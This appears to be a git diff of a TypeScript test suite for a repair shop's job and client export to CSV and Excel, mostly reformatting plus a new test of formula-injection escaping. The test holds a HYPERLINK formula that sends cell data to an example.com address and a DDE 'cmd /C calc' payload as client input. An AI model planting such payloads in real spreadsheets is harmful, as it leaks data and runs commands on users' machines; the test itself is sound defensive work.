@@ -2,12 +2,24 @@ import ExcelJS from 'exceljs';
 import type { ImportPreviewResponse } from '@repair-shop/contracts';
 import { csvFile, importFile, previewImport } from './support/import-files';
 import { keptAndRecomputed } from './support/kept-aggregates';
-import { bearer, createJob, createShop, expectError, expectStatus, startTestApp, type Shop, type TestApp } from './support/test-app';
+import {
+  bearer,
+  createJob,
+  createShop,
+  expectError,
+  expectStatus,
+  startTestApp,
+  type Shop,
+  type TestApp,
+} from './support/test-app';
 
 const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 
 /** Reads a whole response body as bytes (supertest leaves binary answers unparsed otherwise). */
-const binary = (response: { on: (event: string, listener: (chunk?: Buffer) => void) => void }, callback: (error: Error | null, body: Buffer) => void): void => {
+const binary = (
+  response: { on: (event: string, listener: (chunk?: Buffer) => void) => void },
+  callback: (error: Error | null, body: Buffer) => void,
+): void => {
   const chunks: Buffer[] = [];
   response.on('data', (chunk) => chunks.push(chunk as Buffer));
   response.on('end', () => callback(null, Buffer.concat(chunks)));
@@ -35,21 +47,39 @@ describe('exporting jobs and clients as CSV and Excel', () => {
       estimatedPrice: 1250.5,
       deviceLock: { kind: 'pin', value: '481516' },
     });
-    expectStatus(await t.http().post(`/api/jobs/${job.id}/payments`).set(bearer(shop.token)).send({ amount: 100, method: 'cash', kind: 'payment' }), 201);
+    expectStatus(
+      await t
+        .http()
+        .post(`/api/jobs/${job.id}/payments`)
+        .set(bearer(shop.token))
+        .send({ amount: 100, method: 'cash', kind: 'payment' }),
+      201,
+    );
     t.clock.advance(3_600_000);
-    expectStatus(await t.http().put(`/api/jobs/${job.id}/status`).set(bearer(shop.token)).send({ status: 'completed' }), 200);
-    await createJob(t, shop.token, shop.worker.id, { clientName: 'Ëndrita Dërmaku', clientPhone: '044 555 666', deviceImei: '490154203237518' });
+    expectStatus(
+      await t.http().put(`/api/jobs/${job.id}/status`).set(bearer(shop.token)).send({ status: 'completed' }),
+      200,
+    );
+    await createJob(t, shop.token, shop.worker.id, {
+      clientName: 'Ëndrita Dërmaku',
+      clientPhone: '044 555 666',
+      deviceImei: '490154203237518',
+    });
     t.clock.advance(60_000);
-    const clients = csvFile([['Emri', 'Telefoni', 'Shënimi'], ['Dafina Gashi', '049 800 100', 'Thirreni pas orës 17']]);
+    const clients = csvFile([
+      ['Emri', 'Telefoni', 'Shënimi'],
+      ['Dafina Gashi', '049 800 100', 'Thirreni pas orës 17'],
+    ]);
     expectStatus(await importFile(t, shop.token, clients, 'clients', { columns: { name: 0, phone: 1, note: 2 } }), 201);
   });
   afterAll(async () => {
     await t.close();
   });
 
-  const download = (path: string, token = shop.token) => t.http().get(path).set(bearer(token)).buffer(true).parse(binary);
+  const download = (path: string, token = shop.token) =>
+    t.http().get(path).set(bearer(token)).buffer(true).parse(binary);
 
-  it('writes the jobs as an Excel workbook with the CSV\'s columns, numbers and dates in typed cells, and no unlock code', async () => {
+  it("writes the jobs as an Excel workbook with the CSV's columns, numbers and dates in typed cells, and no unlock code", async () => {
     const response = await download('/api/export/jobs.xlsx?from=2026-01-01&to=2026-01-31');
     expectStatus(response, 200);
     expect(response.headers['content-type']).toBe(XLSX_TYPE);
@@ -58,7 +88,24 @@ describe('exporting jobs and clients as CSV and Excel', () => {
     const csv = (await t.http().get('/api/export/jobs.csv?from=2026-01-01&to=2026-01-31').set(bearer(shop.token))).text;
     expect(rows[0]).toEqual(csv.replace('\uFEFF', '').split('\n')[0]?.split(';'));
     expect(rows).toHaveLength(3);
-    const [ticket, received, status, client, phone, device, imei, problem, worker, priority, labour, parts, total, paid, balance, completed] = rows[1]!;
+    const [
+      ticket,
+      received,
+      status,
+      client,
+      phone,
+      device,
+      imei,
+      problem,
+      worker,
+      priority,
+      labour,
+      parts,
+      total,
+      paid,
+      balance,
+      completed,
+    ] = rows[1]!;
     expect([status, client, phone, device, imei, problem, worker, priority]).toEqual([
       'Përfunduar',
       '=Qëndrim Çeku',
@@ -102,11 +149,67 @@ describe('exporting jobs and clients as CSV and Excel', () => {
     );
     // Another shop exports its own clients only.
     const other = await createShop(t);
-    expect((await t.http().get('/api/export/clients.csv').set(bearer(other.token))).text).toBe('\uFEFFKlienti;Telefoni;Punë;Shpenzuar;Puna e fundit;Shënimi\n');
+    expect((await t.http().get('/api/export/clients.csv').set(bearer(other.token))).text).toBe(
+      '\uFEFFKlienti;Telefoni;Punë;Shpenzuar;Puna e fundit;Shënimi\n',
+    );
+  });
+
+  it('keeps a formula out of the CSV without an apostrophe on phone numbers and numbers; the workbook holds text cells as typed', async () => {
+    const other = await createShop(t);
+    const hyperlink = '=HYPERLINK("https://example.com/?d="&A1;"Kliko")';
+    await createJob(t, other.token, other.worker.id, {
+      clientName: 'Arbër Hoxha',
+      clientPhone: '+383 49 555 111',
+      workDescription: '-12,50',
+    });
+    t.clock.advance(60_000);
+    await createJob(t, other.token, other.worker.id, {
+      clientName: hyperlink,
+      clientPhone: '+383 44 222-333',
+      workDescription: '@SUM(1+1)*cmd|" /C calc"!A0',
+    });
+    t.clock.advance(60_000);
+    await createJob(t, other.token, other.worker.id, {
+      clientName: '-Teuta',
+      clientPhone: '049 700 800',
+      workDescription: '+1 ditë',
+    });
+
+    const csv = (await t.http().get('/api/export/jobs.csv?from=2026-01-01&to=2026-01-31').set(bearer(other.token)))
+      .text;
+    const cells = (line: string | undefined) => (line ?? '').split(';').slice(3, 8);
+    const [, arber, link, teuta] = csv.split('\n');
+    // A phone number and a number as they are; anything else starting like a formula behind "'".
+    expect(cells(arber)).toEqual(['Arbër Hoxha', '+383 49 555 111', 'Samsung Galaxy S21', '356789012345672', '-12,50']);
+    expect(link).toContain(`"'=HYPERLINK(""https://example.com/?d=""&A1;""Kliko"")"`);
+    expect(link).toContain(`;'+383 44 222-333;`);
+    expect(link).toContain(`;"'@SUM(1+1)*cmd|"" /C calc""!A0";`);
+    expect(cells(teuta)).toEqual(["'-Teuta", '049 700 800', 'Samsung Galaxy S21', '356789012345672', "'+1 ditë"]);
+
+    const rows = await sheetRows(
+      (await download('/api/export/jobs.xlsx?from=2026-01-01&to=2026-01-31', other.token)).body as Buffer,
+    );
+    // Text cells hold the text itself: never an apostrophe, never a formula.
+    expect(rows.slice(1).map((row) => row.slice(3, 5))).toEqual([
+      ['Arbër Hoxha', '+383 49 555 111'],
+      [hyperlink, '+383 44 222-333'],
+      ['-Teuta', '049 700 800'],
+    ]);
+
+    // The clients' file, which the shop opens to call them: the phone as it was written.
+    const clients = (await t.http().get('/api/export/clients.csv').set(bearer(other.token))).text;
+    expect(clients).toContain('\nArbër Hoxha;+383 49 555 111;1;');
+    expect(clients).toContain(`\n"'=HYPERLINK(`);
+    const clientRows = await sheetRows((await download('/api/export/clients.xlsx', other.token)).body as Buffer);
+    expect(clientRows.map((row) => row[1])).toContain('+383 49 555 111');
   });
 
   it('refuses a reversed range of days for the workbook too', async () => {
-    expectError(await t.http().get('/api/export/jobs.xlsx?from=2026-01-16&to=2026-01-15').set(bearer(shop.token)), 400, 'Data e fillimit duhet të jetë para datës së mbarimit.');
+    expectError(
+      await t.http().get('/api/export/jobs.xlsx?from=2026-01-16&to=2026-01-15').set(bearer(shop.token)),
+      400,
+      'Data e fillimit duhet të jetë para datës së mbarimit.',
+    );
   });
 
   it('takes an exported file into another shop as it is: jobs from the workbook, clients from the CSV', async () => {
@@ -114,7 +217,14 @@ describe('exporting jobs and clients as CSV and Excel', () => {
     const jobsFile = (await download('/api/export/jobs.xlsx?from=2026-01-01&to=2026-01-31')).body as Buffer;
     const preview = (await previewImport(t, other.token, jobsFile, 'punet.xlsx')).body as ImportPreviewResponse;
     expect(preview.suggestedKind).toBe('jobs');
-    const imported = await importFile(t, other.token, jobsFile, 'jobs', { columns: preview.suggested.jobs, workerId: other.worker.id }, 'punet.xlsx');
+    const imported = await importFile(
+      t,
+      other.token,
+      jobsFile,
+      'jobs',
+      { columns: preview.suggested.jobs, workerId: other.worker.id },
+      'punet.xlsx',
+    );
     expectStatus(imported, 201);
     expect(imported.body).toMatchObject({ imported: 2, skipped: 0 });
     const jobsOf = async (businessId: string) =>
@@ -129,26 +239,67 @@ describe('exporting jobs and clients as CSV and Excel', () => {
     const { kept, recomputed } = await keptAndRecomputed(t.db, other.business.id);
     expect(kept).toEqual(recomputed);
 
-    const clientsFile = Buffer.from((await t.http().get('/api/export/clients.csv').set(bearer(shop.token))).text, 'utf-8');
-    const clientsPreview = (await previewImport(t, other.token, clientsFile, 'klientet.csv')).body as ImportPreviewResponse;
+    const clientsFile = Buffer.from(
+      (await t.http().get('/api/export/clients.csv').set(bearer(shop.token))).text,
+      'utf-8',
+    );
+    const clientsPreview = (await previewImport(t, other.token, clientsFile, 'klientet.csv'))
+      .body as ImportPreviewResponse;
     expect(clientsPreview.suggested.clients).toEqual({ name: 0, phone: 1, note: 5 });
-    const clients = await importFile(t, other.token, clientsFile, 'clients', { columns: clientsPreview.suggested.clients }, 'klientet.csv');
+    const clients = await importFile(
+      t,
+      other.token,
+      clientsFile,
+      'clients',
+      { columns: clientsPreview.suggested.clients },
+      'klientet.csv',
+    );
     // The two clients with jobs came with their jobs already.
     expect(clients.body).toMatchObject({ imported: 1, skipped: 2, rowCount: 3 });
-    const listed = async (token: string) => ((await t.http().get('/api/clients').set(bearer(token))).body as { name: string; phone: string; jobCount: number; note: string | null }[]).map(({ name, phone, jobCount, note }) => ({ name, phone, jobCount, note }));
-    expect((await listed(other.token)).sort((a, b) => a.phone.localeCompare(b.phone))).toEqual((await listed(shop.token)).sort((a, b) => a.phone.localeCompare(b.phone)));
+    const listed = async (token: string) =>
+      (
+        (await t.http().get('/api/clients').set(bearer(token))).body as {
+          name: string;
+          phone: string;
+          jobCount: number;
+          note: string | null;
+        }[]
+      ).map(({ name, phone, jobCount, note }) => ({ name, phone, jobCount, note }));
+    expect((await listed(other.token)).sort((a, b) => a.phone.localeCompare(b.phone))).toEqual(
+      (await listed(shop.token)).sort((a, b) => a.phone.localeCompare(b.phone)),
+    );
   });
 
   // Last: it moves the clock and adds a client to the shop the other tests read.
   it("exports a cancelled job's balance as the job's page shows it: what was paid, to be given back", async () => {
     t.clock.set('2026-02-10T10:00:00.000Z');
-    const job = await createJob(t, shop.token, shop.worker.id, { clientName: 'Besa Hoxha', clientPhone: '045 999 888', estimatedPrice: 80 });
-    expectStatus(await t.http().post(`/api/jobs/${job.id}/payments`).set(bearer(shop.token)).send({ amount: 30, method: 'cash', kind: 'deposit' }), 201);
-    expectStatus(await t.http().put(`/api/jobs/${job.id}/status`).set(bearer(shop.token)).send({ status: 'cancelled', reason: 'Klienti ndryshoi mendje' }), 200);
+    const job = await createJob(t, shop.token, shop.worker.id, {
+      clientName: 'Besa Hoxha',
+      clientPhone: '045 999 888',
+      estimatedPrice: 80,
+    });
+    expectStatus(
+      await t
+        .http()
+        .post(`/api/jobs/${job.id}/payments`)
+        .set(bearer(shop.token))
+        .send({ amount: 30, method: 'cash', kind: 'deposit' }),
+      201,
+    );
+    expectStatus(
+      await t
+        .http()
+        .put(`/api/jobs/${job.id}/status`)
+        .set(bearer(shop.token))
+        .send({ status: 'cancelled', reason: 'Klienti ndryshoi mendje' }),
+      200,
+    );
     const page = await t.http().get(`/api/jobs/${job.id}`).set(bearer(shop.token));
     expectStatus(page, 200);
 
-    const rows = await sheetRows((await download('/api/export/jobs.xlsx?from=2026-02-01&to=2026-02-28')).body as Buffer);
+    const rows = await sheetRows(
+      (await download('/api/export/jobs.xlsx?from=2026-02-01&to=2026-02-28')).body as Buffer,
+    );
     expect(rows).toHaveLength(2);
     const [total, paid, balance] = rows[1]!.slice(12, 15);
     expect([total, paid, balance]).toEqual([80, 30, -30]);
